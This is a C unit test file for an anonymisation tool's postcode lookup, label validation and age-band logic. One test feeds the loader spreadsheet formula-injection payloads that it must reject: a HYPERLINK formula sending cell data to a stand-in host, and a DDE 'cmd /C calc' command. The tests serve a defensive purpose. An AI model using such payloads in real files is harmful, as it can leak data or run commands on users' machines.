/* Unit tests for anonymise/generalise.c: postcode lookup and age bands. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "../../anonymise/generalise.h"
#include "../../core/calendar.h"

static void
test_lookup(void **state)
{
    struct geo_lookup gl;
    struct geo_code g;
    struct diag d;

    (void)state;
    assert_int_equal(geo_lookup_load(&gl, "tests/data/generalise/lookup.csv",
                                     &d), 0);
    assert_int_equal(gl.nentries, 3);
    assert_int_equal(gl.names.nward, 3); /* UNKNOWN, Northgate, Riverside */
    /* the districts are the lookup postcodes' outward codes, all of them
     * there before any postcode is looked up */
    assert_int_equal(gl.names.ndistrict, 3); /* UNKNOWN, LS20, LS21 */
    assert_string_equal(gl.names.district[1], "LS20");
    assert_string_equal(gl.names.district[2], "LS21");
    assert_int_equal(geo_lookup_find(&gl, "LS20 8AD", &g), 1);
    assert_string_equal(gl.names.ward[g.ward], "Riverside, East");
    assert_string_equal(gl.names.lsoa[g.lsoa], "E01099002");
    assert_string_equal(gl.names.district[g.district], "LS20");
    assert_int_equal(geo_lookup_find(&gl, "LS21 1AA", &g), 1);
    assert_string_equal(gl.names.ward[g.ward], "Northgate");
    assert_string_equal(gl.names.district[g.district], "LS21");
    geo_lookup_release(&gl);
}

/*
 * A postcode outside the lookup is UNKNOWN in every geography, its
 * district too, and finding it adds no category: one resident from
 * elsewhere (ZE2 9AA) must not make ZE2 a published row of one.
 */
static void
test_lookup_only_categories(void **state)
{
    static const struct {
        const char *postcode;
        int found;
        const char *ward, *lsoa, *district;
    } t[] = {
        {"ZE2 9AA", 0, "UNKNOWN", "UNKNOWN", "UNKNOWN"},
        {"LS99 9ZZ", 0, "UNKNOWN", "UNKNOWN", "UNKNOWN"},
        /* a known district, an unknown postcode: still UNKNOWN */
        {"LS20 9ZZ", 0, "UNKNOWN", "UNKNOWN", "UNKNOWN"},
        {"", 0, "UNKNOWN", "UNKNOWN", "UNKNOWN"},
        {"LS20 8AB", 1, "Northgate", "E01099001", "LS20"},
        {"LS21 1AA", 1, "Northgate", "E01099003", "LS21"},
    };
    struct geo_lookup gl;
    struct geo_code g;
    struct diag d;
    size_t i, nward, nlsoa, ndistrict;

    (void)state;
    assert_int_equal(geo_lookup_load(&gl, "tests/data/generalise/lookup.csv",
                                     &d), 0);
    nward = gl.names.nward;
    nlsoa = gl.names.nlsoa;
    ndistrict = gl.names.ndistrict;
    for (i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
        assert_int_equal(geo_lookup_find(&gl, t[i].postcode, &g), t[i].found);
        assert_string_equal(gl.names.ward[g.ward], t[i].ward);
        assert_string_equal(gl.names.lsoa[g.lsoa], t[i].lsoa);
        assert_string_equal(gl.names.district[g.district], t[i].district);
        if (!t[i].found)
            assert_true(g.ward == GEO_UNKNOWN && g.lsoa == GEO_UNKNOWN &&
                        g.district == GEO_UNKNOWN);
    }
    assert_int_equal(gl.names.nward, nward);
    assert_int_equal(gl.names.nlsoa, nlsoa);
    assert_int_equal(gl.names.ndistrict, ndistrict);
    for (i = 1; i < gl.names.ndistrict; i++)
        assert_string_not_equal(gl.names.district[i], "ZE2");
    geo_lookup_release(&gl);
}

/* Writes text to a new temp file; its path into path (PATH_MAX-ish). */
static void
write_temp(char *path, size_t n, const char *text)
{
    int fd;
    FILE *f;

    snprintf(path, n, "%s/cohort-lookup-XXXXXX", P_tmpdir);
    fd = mkstemp(path);
    assert_true(fd >= 0);
    f = fdopen(fd, "w");
    assert_non_null(f);
    assert_int_equal(fputs(text, f) >= 0, 1);
    assert_int_equal(fclose(f), 0);
}

/*
 * Ward and LSOA names that must not become published categories: a config
 * error naming the file, line, column and rule, never the name itself.
 */
static void
test_lookup_refuses_labels(void **state)
{
    static const struct {
        const char *row;     /* line 3 of the lookup; line 2 is good */
        long column;
        const char *rule;    /* NULL: accepted */
        const char *value;   /* must not be in the message (NULL: skip) */
    } t[] = {
        /* the message names the reserved words themselves, so only
         * other spellings can show it quotes no value */
        {"LS20 1AB,Total,E01000002\n", 2, "reserved_label", NULL},
        {"LS20 1AB,UNKNOWN,E01000002\n", 2, "reserved_label", NULL},
        {"LS20 1AB,total,E01000002\n", 2, "reserved_label", "total"},
        {"LS20 1AB,\" TOTAL \",E01000002\n", 2, "reserved_label", "TOTAL"},
        {"LS20 1AB,Unknown,E01000002\n", 2, "reserved_label", "Unknown"},
        {"LS20 1AB,Abbey,tOTAL\n", 3, "reserved_label", "tOTAL"},
        {"LS20 1AB,Caf\xe9 Quarter,E01000002\n", 2, "label_not_utf8", "Caf"},
        {"LS20 1AB,Abbey,E0100\xc0\xaf\n", 3, "label_not_utf8", "E0100"},
        {"LS20 1AB,Abbey \xed\xa0\x80,E01000002\n", 2, "label_not_utf8",
         "Abbey"},
        {"LS20 1AB,\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"Click\"\")\","
         "E01000002\n", 2, "label_formula", "HYPERLINK"},
        {"LS20 1AB,+cmd|' /C calc'!A0,E01000002\n", 2, "label_formula",
         "calc"},
        {"LS20 1AB,-2+3,E01000002\n", 2, "label_formula", "2+3"},
        {"LS20 1AB,@SUM(A1),E01000002\n", 2, "label_formula", "SUM"},
        {"LS20 1AB,\"\tAbbey\",E01000002\n", 2, "label_formula", "Abbey"},
        {"LS20 1AB,\"\rAbbey\",E01000002\n", 2, "label_formula", "Abbey"},
        {"LS20 1AB,Abbey,=1+1\n", 3, "label_formula", "1+1"},
        /* accepted: a rule's character inside a name, a reserved word
         * inside a longer one, UTF-8, an empty name (UNKNOWN) */
        {"LS20 1AB,Abbey-Park = East,E01000002\n", 0, NULL, NULL},
        {"LS20 1AB,Total Hill,E01000002\n", 0, NULL, NULL},
        {"LS20 1AB,Unknowns End,E01000002\n", 0, NULL, NULL},
        {"LS20 1AB,Saint-\xc3\x89loi,E01000002\n", 0, NULL, NULL},
        {"LS20 1AB,,E01000002\n", 0, NULL, NULL},
    };
    size_t i;

    (void)state;
    for (i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
        char path[256], text[512], shown[1024];
        struct geo_lookup gl;
        struct diag d;
        int rc;

        snprintf(text, sizeof(text), "postcode,ward,lsoa\n"
                                     "LS20 1AA,Northgate,E01000001\n%s",
                 t[i].row);
        write_temp(path, sizeof(path), text);
        diag_clear(&d);
        rc = geo_lookup_load(&gl, path, &d);
        diag_format(&d, shown, sizeof(shown));
        if (!t[i].rule) {
            if (rc != 0)
                fail_msg("case %zu: refused: %s", i, shown);
            geo_lookup_release(&gl);
        } else {
            if (rc != CE_CONFIG)
                fail_msg("case %zu: want CE_CONFIG, got %d", i, rc);
            assert_string_equal(d.source, path);
            assert_int_equal(d.line, 3);
            assert_int_equal(d.column, t[i].column);
            assert_string_equal(d.rule, t[i].rule);
            assert_non_null(strstr(d.msg, t[i].column == 2 ? "ward" : "LSOA"));
            if (t[i].value && (strstr(d.msg, t[i].value) ||
                               strstr(d.rule, t[i].value)))
                fail_msg("case %zu: the message quotes the value: %s", i,
                         shown);
        }
        unlink(path);
    }
}

static void
test_lookup_errors(void **state)
{
    struct geo_lookup gl;
    struct diag d;

    (void)state;
    assert_int_equal(geo_lookup_load(&gl, "tests/data/generalise/none.csv",
                                     &d), CE_CONFIG);
    assert_int_equal(geo_lookup_load(&gl,
                                     "tests/data/generalise/bad_header.csv",
                                     &d), CE_CONFIG);
    assert_int_equal(d.line, 1);
    assert_non_null(strstr(d.msg, "postcode, ward and lsoa"));
}

static void
test_ages(void **state)
{
    static const struct age_band bands[] = {{0, 4, }, {5, 17}, {18, -1}};
    struct job_plan plan;
    struct birth b;
    int32_t ref = days_from_civil(2026, 11, 23);
    int32_t oct = days_from_civil(2026, 10, 31);

    (void)state;
    memset(&plan, 0, sizeof(plan));
    plan.age_bands = (struct age_band *)bands;
    plan.nage_bands = 3;
    /* born 24 Nov 2008: 17 on the reference date 23 Nov 2026 */
    birth_from_dob(days_from_civil(2008, 11, 24), ref, &b);
    assert_int_equal(birth_age_at(&b, ref, ref), 17);
    assert_int_equal(birth_age_at(&b, oct, ref), 17);
    assert_int_equal(age_band_of(&plan, birth_age_at(&b, ref, ref)), 1);
    /* born 23 Nov 2008: 18 that day */
    birth_from_dob(days_from_civil(2008, 11, 23), ref, &b);
    assert_int_equal(birth_age_at(&b, ref, ref), 18);
    assert_int_equal(age_band_of(&plan, 18), 2);
    /* a month-end period counts the whole month's birthdays */
    birth_from_dob(days_from_civil(2008, 10, 31), ref, &b);
    assert_int_equal(birth_age_at(&b, oct, ref), 18);
    birth_from_dob(days_from_civil(2008, 12, 1), ref, &b);
    assert_int_equal(birth_age_at(&b, ref, ref), 17);
    /* 29 February */
    birth_from_dob(days_from_civil(2012, 2, 29), ref, &b);
    assert_int_equal(birth_age_at(&b, days_from_civil(2026, 2, 28), ref), 14);
    /* unknown and not yet born */
    birth_from_dob(DAY_NONE, ref, &b);
    assert_int_equal(birth_age_at(&b, ref, ref), -1);
    assert_int_equal(age_band_of(&plan, -1), AGE_BAND_UNKNOWN);
    birth_from_dob(days_from_civil(2026, 11, 1), ref, &b);
    assert_int_equal(birth_age_at(&b, oct, ref), -1);
    assert_int_equal(birth_age_at(&b, ref, ref), 0);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_lookup),
        cmocka_unit_test(test_lookup_only_categories),
        cmocka_unit_test(test_lookup_refuses_labels),
        cmocka_unit_test(test_lookup_errors),
        cmocka_unit_test(test_ages),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
